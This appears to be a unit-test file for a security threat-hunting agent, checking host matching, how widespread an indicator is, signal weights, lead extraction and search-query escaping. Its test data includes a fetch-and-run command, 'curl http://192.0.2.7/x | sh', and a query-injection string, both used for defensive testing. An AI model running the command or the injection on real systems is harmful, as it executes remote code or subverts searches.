"""The hunter's leads and what their spread weighs."""

from __future__ import annotations

from typing import Any

import pytest

from services.agents.roster.threat_hunter.judgement import (
    elsewhere,
    is_alone,
    is_widespread,
    knowledge,
    landing_signs,
    rule_sign,
    same_host,
    speaks_against,
    spread_sign,
)
from services.agents.roster.threat_hunter.leads import MAX_LEADS, Lead, lead_of, leads_of
from services.agents.toolkit.evidence import Evidence, Seen
from services.agents.toolkit.fencing import quote
from services.agents.toolkit.records import record
from services.agents.toolkit.signs import WEAK_BELOW
from services.agents.toolkit.tools.hunting import _SEARCHES as SEARCHES
from shared.contracts.claims import Citation, Finding, Prior
from shared.contracts.common import Observable
from tests.unit.agents.agent_kit import NOW, citation, event

COMMAND = "curl http://192.0.2.7/x | sh"
HASH = "a" * 64


def seen_on(*hosts: str, more: bool = False) -> dict[str, Any]:
    return {"count": len(hosts), "hosts": dict.fromkeys(hosts, 1), "more_hosts": more}


def timeline(host: str, **entry: Any) -> Citation:
    told = {"text": "installed a service", "weight": 0.85, "mitre_techniques": ["T1543.003"]} | entry
    return record("threat_hunter", "timeline", {"host": host}, {"entries": [told]}, NOW)


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("WEB01", "web01", True),
        ("web01", "web01.example.org", True),
        ("web01.example.org", "web01.example.net", False),
        ("web01", "web011", False),
    ],
)
def test_hosts_are_one_by_their_short_name_unless_both_are_told_in_full(one: str, other: str, same: bool) -> None:
    assert same_host(one, other) is same


def test_elsewhere_leaves_the_alerts_own_hosts_out() -> None:
    assert elsewhere(seen_on("web01", "WEB02.example.org", "db01"), ["web01.example.org", "web02"]) == ["db01"]


def test_a_host_is_alone_when_no_other_sent_logs() -> None:
    assert is_alone(seen_on("web01", "WEB01.example.org"), ["web01"])
    assert not is_alone(seen_on("web01", "db01"), ["web01"])
    assert not is_alone(seen_on("web01", more=True), ["web01"])


def test_what_half_of_the_hosts_have_is_widespread_but_on_a_small_estate_nothing_is() -> None:
    talking = seen_on(*(f"h{number}" for number in range(6)))
    assert is_widespread(seen_on("h1", "h2", "h3"), talking)
    assert not is_widespread(seen_on("h1", "h2"), talking)
    assert not is_widespread(seen_on("h1", "h2"), seen_on("h1", "h2"))
    assert is_widespread(seen_on(*(f"h{number}" for number in range(10)), more=True), None)
    many = seen_on(*(f"h{number}" for number in range(10)), more=True)
    assert not is_widespread(seen_on("h1", "h2", "h3", "h4", "h5", "h6"), many)


@pytest.mark.parametrize("kind", knowledge().values)
def test_spread_alone_is_weak_and_more_when_a_finding_speaks_against_the_value(kind: Any) -> None:
    carrier = citation({})
    weak = [spread_sign(kind, "x", hosts, False, carrier).weight for hosts in (["a"], ["a", "b"])]
    told = [spread_sign(kind, "x", hosts, True, carrier).weight for hosts in (["a"], ["a", "b"])]
    assert weak == sorted(weak)
    assert all(weight < WEAK_BELOW for weight in weak)
    assert all(more >= less for more, less in zip(told, weak, strict=True))


def test_a_claim_quotes_hosts_and_values_and_names_few_of_many() -> None:
    sign = spread_sign("command", 'a"b', [f"h{number}\n" for number in range(9)], False, citation({}))
    assert '"a\\"b"' in sign.claim
    assert "9 other hosts" in sign.claim
    assert "and 5 more" in sign.claim
    assert "\n" not in sign.claim


def test_a_logon_elsewhere_is_weak_and_what_followed_it_is_not() -> None:
    logons = citation({"logons": [{"host": "db01", "timestamp": "2026-11-22T02:14:00.000Z"}]})
    [alone] = landing_signs("anna", logons, [timeline("db01", weight=0.3)])
    assert alone.weight < WEAK_BELOW
    _, followed = landing_signs("anna", logons, [timeline("db01")])
    assert followed.weight >= WEAK_BELOW
    assert set(followed.techniques) == {"T1021", "T1543.003"}
    assert landing_signs("anna", citation({"logons": []}), []) == []


def test_the_same_rule_elsewhere_is_weak_on_any_number_of_hosts() -> None:
    assert rule_sign(citation({"hosts": {}})) == []
    for hosts in ({"a": "1"}, {"a": "1", "b": "2"}):
        [sign] = rule_sign(citation({"hosts": hosts}))
        assert 0 < sign.weight < WEAK_BELOW


def test_a_finding_speaks_against_a_value_that_it_quotes_when_it_carries_weight_and_suspicion() -> None:
    def prior(verdict: Any, confidence: float) -> Prior:
        claim = f"downloads a script: {quote(COMMAND)}"
        finding = Finding(agent="triage", claim=claim, confidence=confidence, citations=["tr_1"])
        return Prior(agent="triage", verdict=verdict, severity="high", confidence=0.9, findings=[finding])

    assert speaks_against([prior("malicious", 0.9)], COMMAND)
    assert not speaks_against([prior("benign", 0.9)], COMMAND)
    assert not speaks_against([prior("malicious", 0.2)], COMMAND)
    assert not speaks_against([prior("malicious", 0.9)], "another command")


@pytest.mark.parametrize(
    ("observable", "lead"),
    [
        (Observable("ip", "45.33.32[.]156"), Lead("ip", "45.33.32.156")),
        (Observable("ip", "nobody"), None),
        (Observable("hash", HASH.upper()), Lead("hash", HASH)),
        (Observable("hash", "a" * 63), None),
        (Observable("domain", "Evil.bad-names.top"), Lead("domain", "evil.bad-names.top")),
        (Observable("email", "a@b.example"), None),
        (Observable("command", " "), None),
    ],
)
def test_a_lead_is_what_can_be_looked_for(observable: Observable, lead: Lead | None) -> None:
    assert lead_of(observable) == lead


def test_leads_come_from_events_indicators_and_suspicious_specialists_the_most_telling_first() -> None:
    ran = event(**{"process.command_line": COMMAND, "process.hash.sha256": HASH, "destination.ip": "192.0.2.7"})
    ordinary = event(**{"process.command_line": "ls -l /home/alice/projects"})
    evidence = Evidence(events=[Seen(ran, citation({})), Seen(ordinary, citation({}))])
    evidence.iocs = [Observable("domain", "evil.bad-names.top"), Observable("user", "alice")]
    said = [
        Prior(agent="a", verdict="malicious", severity="high", confidence=0.9, iocs=[Observable("ip", "192.0.2.9")]),
        Prior(agent="b", verdict="benign", severity="info", confidence=0.9, iocs=[Observable("ip", "192.0.2.8")]),
    ]
    assert leads_of(evidence, said) == [
        Lead("command", COMMAND),
        Lead("hash", HASH),
        Lead("domain", "evil.bad-names.top"),
        Lead("ip", "192.0.2.7"),
        Lead("ip", "192.0.2.9"),
    ]
    everywhere = ("127.0.0.1", "224.0.0.251", "169.254.1.1")
    evidence.iocs = [Observable("domain", "microsoft.com"), *(Observable("ip", value) for value in everywhere)]
    assert leads_of(evidence, [])[2:] == [Lead("ip", "192.0.2.7")]
    evidence.iocs = [Observable("ip", f"192.0.2.{number}") for number in range(100, 130)]
    assert len(leads_of(evidence, [])) == MAX_LEADS


@pytest.mark.parametrize("kind", SEARCHES)
def test_a_hostile_value_stays_a_value_of_the_search(kind: Any) -> None:
    q = SEARCHES[kind]('x" or host.name:* or "')
    outside = q.replace('\\"', "")
    assert "host.name" not in "".join(outside.split('"')[::2])
